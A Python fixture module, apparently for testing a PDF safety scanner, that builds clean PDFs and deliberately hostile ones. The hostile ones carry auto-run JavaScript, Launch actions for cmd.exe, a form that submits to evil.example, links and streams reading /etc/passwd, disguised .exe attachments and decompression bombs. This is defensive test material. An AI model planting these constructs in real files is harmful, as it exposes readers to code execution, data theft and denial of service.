"""PDF files, honest and hostile."""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

PAGE = b"BT /F1 24 Tf 40 700 Td (Annual report 2026) Tj ET"


def plain(pages: int = 1) -> Pdf:
    """A PDF with a line of text on each page."""
    pdf = Pdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(PAGE)
    return pdf


def saved(pdf: Pdf, **options: object) -> bytes:
    """The bytes of a PDF, the same each time."""
    file = BytesIO()
    options.setdefault("deterministic_id", "encryption" not in options)
    pdf.save(file, **options)  # type: ignore[arg-type]
    return file.getvalue()


def honest(pages: int = 1) -> bytes:
    return saved(plain(pages))


def changed(change: Callable[[Pdf], object]) -> bytes:
    """A plain PDF after this change."""
    pdf = plain()
    change(pdf)
    return saved(pdf)


def script(code: str = "app.alert('x')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def annotated(pdf: Pdf, **entries: pikepdf.Object) -> None:
    """Add an annotation to the first page."""
    mark = Dictionary({"/Type": Name.Annot, "/Rect": Array([10, 10, 90, 90])})
    for key, value in entries.items():
        mark[f"/{key}"] = value
    placed = pdf.make_indirect(mark)
    pdf.pages[0].obj["/Annots"] = Array([placed])
    if mark["/Subtype"] == Name.Widget:
        pdf.Root.AcroForm = Dictionary(Fields=Array([placed]))


def with_script_at_opening(pdf: Pdf) -> None:
    pdf.Root.OpenAction = script()


def with_named_scripts(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("one"), pdf.make_indirect(script())])))


def with_page_actions(pdf: Pdf) -> None:
    pdf.pages[0].obj["/AA"] = Dictionary(O=script(), C=script())


def with_launch(pdf: Pdf) -> None:
    annotated(pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("a"))))


def with_chained_launch(pdf: Pdf) -> None:
    """A harmless action that is followed by another one."""
    chained = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    annotated(pdf, Subtype=Name.Link, A=Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([chained])))


def with_submit(pdf: Pdf) -> None:
    send = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/")))
    annotated(pdf, Subtype=Name.Widget, FT=Name.Btn, T=String("send"), A=send)


def with_link_to_file(pdf: Pdf) -> None:
    annotated(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd")))


def with_script_link(pdf: Pdf) -> None:
    annotated(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))


def with_attached_file(pdf: Pdf) -> None:
    pdf.attachments["invoice.exe"] = b"MZ\x90 not a program"


def with_file_on_page(pdf: Pdf) -> None:
    stream = pdf.make_stream(b"MZ\x90 not a program")
    file = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream))
    annotated(pdf, Subtype=Name.FileAttachment, FS=file)


def with_film(pdf: Pdf) -> None:
    annotated(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary()))


def with_form_of_adobe(pdf: Pdf) -> None:
    pdf.Root.AcroForm = pdf.Root.get("/AcroForm", Dictionary(Fields=Array([])))
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp/>")


def with_dynamic_form(pdf: Pdf) -> None:
    with_form_of_adobe(pdf)
    pdf.Root["/NeedsRendering"] = True


def with_hidden_action(pdf: Pdf) -> None:
    """A script under a key that no standard knows."""
    pdf.Root["/Unknown"] = pdf.make_indirect(Dictionary(Deeper=Array([script("hidden()")])))


def with_outside_stream(pdf: Pdf) -> None:
    """A page whose content a reader takes from another file."""
    pdf.pages[0].Contents = pdf.make_stream(b"", {"/F": String("/etc/passwd"), "/FFilter": Name.FlateDecode})


def with_page_named_like_an_action(pdf: Pdf) -> None:
    """Honest: a font whose name on the page is a key of actions elsewhere."""
    font = pdf.pages[0].Resources.Font.F1
    pdf.pages[0].Resources = Dictionary(Font=Dictionary(AA=font))
    pdf.pages[0].Contents = pdf.make_stream(PAGE.replace(b"/F1", b"/AA"))


def portfolio(pdf: Pdf) -> None:
    pdf.Root.Collection = Dictionary(Type=Name.Collection)


def signed(pdf: Pdf) -> None:
    signature = pdf.make_indirect(
        Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=String("\x00" * 64))
    )
    annotated(pdf, Subtype=Name.Widget, FT=Name.Sig, T=String("Signature1"), V=signature)


def with_links(pdf: Pdf) -> None:
    """Honest: a link to the web, and the page that is shown first, as LibreOffice writes it."""
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.XYZ, None, None, 0])
    annotated(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.internetsociety.org/")))


def with_password() -> bytes:
    return saved(plain(), encryption=pikepdf.Encryption(owner="a", user="b"))


def restricted() -> bytes:
    return saved(plain(), encryption=pikepdf.Encryption(owner="a", user="", allow=pikepdf.Permissions(extract=False)))


def bomb(megabytes: int, times: int = 1) -> bytes:
    """A page whose content is spaces, packed as often as stated."""
    packed = b" " * (megabytes * 1024**2)
    for _ in range(times):
        packed = zlib.compress(packed, 9)
    return filtered(packed, *[Name.FlateDecode] * times)


def bomb_in_letters(megabytes: int) -> bytes:
    """The same, written in the letters of ASCII."""
    packed = base64.a85encode(zlib.compress(b" " * (megabytes * 1024**2), 9)) + b"~>"
    return filtered(packed, Name.ASCII85Decode, Name.FlateDecode)


def filtered(packed: bytes, *filters: pikepdf.Object) -> bytes:
    """A page with this content, which a reader takes through the filters."""
    pdf = plain()
    stream = pdf.make_stream(b"")
    stream.write(packed, filter=Array(filters), decode_parms=None)
    pdf.pages[0].Contents = stream
    return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
